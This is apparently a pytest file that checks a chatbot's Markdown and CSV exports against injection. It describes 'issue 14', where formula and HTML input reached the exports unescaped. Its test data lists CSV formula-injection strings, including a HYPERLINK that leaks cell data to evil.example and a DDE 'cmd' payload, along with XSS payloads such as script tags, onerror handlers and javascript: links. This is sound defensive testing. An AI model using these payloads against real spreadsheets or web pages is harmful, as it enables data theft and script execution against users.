"""Export and explorer views: audit-trail Markdown, figures CSV, safe Markdown, table views.

Issue 14 reproductions: questions starting with ``=``, ``+``, ``-``, ``@`` or a tab reached the
figures CSV unescaped (a ``=HYPERLINK(...)`` opened in a spreadsheet), and the Markdown export
kept ``<script>``, ``<img onerror>`` and ``<iframe>`` from questions verbatim. Both exports are
parsed here as their readers parse them: the CSV by a CSV reader, the Markdown rendered by a
CommonMark renderer (markdown-it-py, raw HTML on) and the HTML it makes parsed for elements.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatbot import explorer, export
from chatbot.export import NO_SOURCE, escape_markdown
from chatbot.records import Answer, Citation

SALARY = Citation(number=1, source="ONS ASHE 2021", section="Talent Ecosystem",
                  quote="Earnings: Average salary £34,131 National average £46,894 (27.2% lower in Midlands).²",
                  metric_id="talent-earnings-average-salary", highlight="£34,131",
                  document="Data Driven Healthcare Innovation — Midlands Cluster Snapshot 2023")
NATIONAL = Citation(number=2, source="ONS ASHE 2021", section="Talent Ecosystem",
                    quote="National average £46,894 (27.2% lower in Midlands).²",
                    metric_id="talent-earnings-national-average", highlight="£46,894")
DDI = Citation(number=1, source="Wavteq 2022", section="Investment Ecosystem",
               quote="DDI Jobs 2017-2021: 3,321 jobs 17% of UK total.⁷",
               metric_id="investment-ddi-jobs-2017-2021", highlight="3,321")
FDI = Citation(number=2, source="Wavteq 2022", section="Investment Ecosystem",
               quote="FDI Jobs 2017-2021: 889 jobs 5% of UK total.⁶",
               metric_id="investment-fdi-jobs-2017-2021", highlight="889")
PROSE = Citation(number=1, source="", section="Methodology note",
                 quote="In this case the number of actual Midlands jobs in health and life sciences is "
                       "likely to be underestimated by the Data City data (18,177) due to company account "
                       "structures, specifically addresses.", chunk_id="method-p3")


def _messages() -> list[dict]:
    answers = [
        ("What is the average salary?",
         Answer(text="Average salary: **£34,131** (2021). Source: ONS ASHE 2021 [1]", answered=True,
                citations=[SALARY], kind="figure")),
        ("How does that compare nationally?",
         Answer(text="Nationally **£46,894** against **£34,131** [1][2].\nCalculation: £46,894 − £34,131 = £12,763",
                answered=True, citations=[SALARY, NATIONAL], kind="derived",
                calculations=["£46,894 − £34,131 = £12,763"])),
        ("How many more DDI jobs than FDI jobs?",
         Answer(text="DDI jobs (**3,321**) exceed FDI jobs (**889**) by **2,432** [1][2].", answered=True,
                citations=[DDI, FDI], kind="derived", calculations=["3,321 − 889 = 2,432"])),
        ("Why is the jobs figure low?",
         Answer(text="The methodology note says the Data City count is an undercount [1].", answered=True,
                citations=[PROSE], kind="prose")),
        ("What is the population of Birmingham?",
         Answer(text="The snapshot doesn't say.", answered=False, kind="not_found",
                nearest=["Estimated employees: 5,552"])),
    ]
    msgs: list[dict] = []
    for q, a in answers:
        msgs += [{"role": "user", "content": q}, {"role": "assistant", "content": a.text, "answer": a}]
    msgs += [{"role": "user", "content": "<b>broken</b>"},
             {"role": "assistant", "content": "", "error": "The index could not be reached."}]
    return msgs


def test_markdown_is_an_audit_trail_with_every_citation():
    msgs = _messages()
    md = export.conversation_markdown(msgs, "DDHI Snapshot 2023",
                                      exported_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC))
    assert md.startswith("# Snapshot Q&A: conversation about DDHI Snapshot 2023")
    assert "2026-01-02T03:04:05+00:00" in md
    shown = rendered(md).text
    for m in msgs:
        if m["role"] == "user":
            assert f"> {export.markdown_text(m['content'])}" in md  # every question, word for word
            assert m["content"] in shown
        elif "answer" in m:
            assert export.markdown_text(m["answer"].text.splitlines()[0]) in md
            for c in m["answer"].citations:
                assert c.quote in md
                assert f"data source: {c.source or NO_SOURCE}" in md
    assert md.count("## Question ") == 6
    assert "Calculation: 3,321 − 889 = 2,432" in md
    assert "**Not in the snapshot:**" in md and "  - Estimated employees: 5,552" in md
    assert "**No answer:** The index could not be reached." in md
    assert "metric `talent-earnings-average-salary`" in md


def test_markdown_export_says_each_line_once():
    """Issue 13: the Markdown export repeated each calculation line (in the text and the list)."""
    calc = "3,321 − 889 = 2,432"
    ans = Answer(text=f"DDI jobs exceed FDI jobs by **2,432** [1][2].\nCalculation: {calc}", answered=True,
                 citations=[DDI, FDI], kind="derived", calculations=[calc, calc])
    md = export.conversation_markdown(
        [{"role": "user", "content": "How many more?"},
         {"role": "assistant", "content": ans.text, "answer": ans, "notice": "Your message was long."},
         {"role": "user", "content": "x" * 30},
         {"role": "assistant", "content": "", "refusal": "Nothing was sent."}], "T")
    assert md.count(calc) == 1
    body = [line for line in md.splitlines() if line.strip() and not line.startswith("#")]
    assert len(body) == len(set(body)), [line for line in body if body.count(line) > 1]
    assert "- Note: Your message was long." in md and "**Not sent:** Nothing was sent." in md


@pytest.mark.parametrize("text", ["see www.example.com", "http://evil.example/x", "HTTPS://X.Y",
                                  "mail a@b.com", "<a href='https://x.y'>x</a>"])
def test_typed_urls_never_become_links(text):
    shown = export.question_markdown(text)
    plain = re.sub(r"\\(.)", r"\1", shown)
    assert plain.replace(export.WORD_JOINER, "") == text  # the reader sees what they typed
    assert not re.search(r"(?i)www\.|[a-z]://|\w@", plain)  # nothing a renderer would link
    assert not re.search(r"(?i)www\.|[a-z]://", export.answer_markdown(text))


def test_markdown_of_an_empty_conversation():
    md = export.conversation_markdown([], "T")
    assert "No questions asked yet" in md


def test_csv_has_one_row_per_quoted_figure(table):
    rows = list(csv.DictReader(io.StringIO(export.figures_csv(_messages(), table))))
    # salary; salary + national; DDI + FDI. The prose citation quotes no figure; not-found none.
    assert [(r["turn"], r["metric_id"]) for r in rows] == [
        ("1", "talent-earnings-average-salary"),
        ("2", "talent-earnings-average-salary"), ("2", "talent-earnings-national-average"),
        ("3", "investment-ddi-jobs-2017-2021"), ("3", "investment-fdi-jobs-2017-2021"),
    ]
    first = rows[0]
    assert first["metric"] == "Average salary"
    assert first["value"] == "£34,131"
    assert first["source"] == "ONS ASHE 2021"
    assert first["quote"] == SALARY.quote
    assert first["question"] == "What is the average salary?"
    assert {r["value"] for r in rows[3:]} == {"3,321", "889"}
    assert set(export.FIGURE_COLUMNS) <= set(rows[0])


def test_csv_of_no_figures_is_just_a_header(table):
    assert export.figures_csv([], table).strip() == ",".join(export.FIGURE_COLUMNS)


@pytest.mark.parametrize("text", [
    "<script>alert(1)</script>", "**bold** _it_ `code`", "[link](http://example.com)", "![img](x.png)",
    "$x$ and $y$", ":red[colour] :smile:", "# heading", "- list", "1. item", "a | b", "&lt;b&gt;",
])
def test_escape_markdown_leaves_no_live_syntax(text):
    out = escape_markdown(text)
    # every special character is preceded by a backslash; removing the escapes gives the text back
    assert re.sub(r"\\(.)", r"\1", out) == text
    assert not re.search(r"(?<!\\)[<>*_`\[\]$:#|&]", out)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_escape_markdown_round_trips_any_text(text):
    out = escape_markdown(text)
    assert re.sub(r"\\(.)", r"\1", out.replace("  \n", "\n"), flags=re.DOTALL) == text.replace("\r\n", "\n")
    assert not re.search(r"(?<!\\)[<>*_`\[\]$:#|&]", re.sub(r"\\.", "", out, flags=re.DOTALL))


def test_answer_body_drops_calculation_lines_and_neutralises_latex_and_links():
    ans = Answer(text="A $266.3m and $544.21m gap [1](http://x).\nCalculation: 1 − 1 = 0\n- item",
                 answered=True, calculations=["1 − 1 = 0"])
    body = export.answer_body(ans)
    assert "Calculation" not in body
    assert r"\$266.3m and \$544.21m" in body
    assert "](" not in body
    assert body.endswith("  \n- item")


def test_nearest_not_in_text_skips_figures_the_text_already_lists():
    ans = Answer(text="Nearest:\n- Estimated employees: **5,552**", answered=False,
                 nearest=["Estimated employees: 5,552", "Average salary: £34,131"])
    assert export.nearest_not_in_text(ans) == ["Average salary: £34,131"]


# --- injection into the downloads (issue 14) ---------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+1+1", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "=cmd|' /C calc'!A0", "%0A=1",
            "|calc", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
HTML_PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<svg onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<IMG SRC=x ONERROR=alert(2)>",
    "![x](http://evil.example/pixel.png)", "[click](javascript:alert(1))", "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)", "![y][p]\n\n[p]: http://evil.example/p.png",
    "<details open ontoggle=alert(1)>", "&lt;script&gt;", "<object data=x>", "<embed src=x>",
    "<style>*{}</style>", "<!-- x --><script>", "`<script>`", "```\n<script>\n```",
]
UNSAFE_TAGS = {"script", "img", "iframe", "svg", "object", "embed", "style", "details", "body",
               "input", "form", "link", "meta", "base", "video", "audio", "source"}


class _Elements(HTMLParser):
    """Every element and attribute of rendered HTML, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.parts: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data):
        self.parts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.parts)


def rendered(markdown: str) -> _Elements:
    parser = _Elements()
    parser.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return parser


def _asked(question: str) -> list[dict]:
    ans = Answer(text=f"No figure for {question} here [1].", answered=True, citations=[SALARY],
                 kind="figure")
    return [{"role": "user", "content": question}, {"role": "assistant", "content": ans.text,
                                                   "answer": ans}]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_start_like_a_formula(table, formula):
    rows = list(csv.reader(io.StringIO(export.figures_csv(_asked(formula), table), newline="")))
    question = rows[1][export.FIGURE_COLUMNS.index("question")]
    assert question == "'" + formula.replace("\r", "\n")  # the text the reader typed
    assert len(rows) == 2, rows  # no row starts inside a cell
    for cell in rows[1]:
        assert not cell.lstrip(" ").startswith(export.FORMULA_START) or re.fullmatch(r"-?[\d.,]+%?", cell)


def test_plain_numbers_stay_numbers_and_the_explorer_csv_is_safe(table):
    assert [export.spreadsheet_safe(v) for v in ("-5%", "+3", "-1,234.5", "", 7)] == [
        "-5%", "+3", "-1,234.5", "", 7]
    hostile = table.head(3).copy()
    hostile.loc[hostile.index[0], "quote"] = '=HYPERLINK("http://evil.example","x")'
    hostile.loc[hostile.index[1], "label"] = "@SUM(A1)"
    rows = list(csv.DictReader(io.StringIO(explorer.table_csv(hostile))))
    assert rows[0]["quote"].startswith("'=") and rows[1]["label"] == "'@SUM(A1)"
    assert rows[2]["quote"] == hostile["quote"].iloc[2]  # ordinary cells untouched


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_markdown_export_renders_no_html_from_questions(payload):
    messages = _asked(payload) + [{"role": "user", "content": f"What is the salary? {payload}"},
                                  {"role": "assistant", "content": "", "error": payload}]
    page = rendered(export.conversation_markdown(messages, f"Title {payload}"))
    for tag, attrs in page.tags:
        assert tag not in UNSAFE_TAGS, (payload, tag)
        assert not any(name.startswith("on") for name in attrs), (payload, attrs)
        assert not any(v.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
                       for v in attrs.values()), (payload, attrs)
        assert tag != "a", (payload, attrs)  # no links at all from user text
    flat = " ".join(payload.split())
    assert flat.replace("`", "") in " ".join(page.text.split()).replace("`", "") or "\n" in payload


def test_the_old_export_fails_these_checks():
    """The checks above catch what issue 14 found: the raw question rendered makes elements."""
    page = rendered("> <script>alert(1)</script> <img src=x onerror=alert(1)> <iframe src=x>")
    assert {"script", "img", "iframe"} <= {t for t, _a in page.tags}
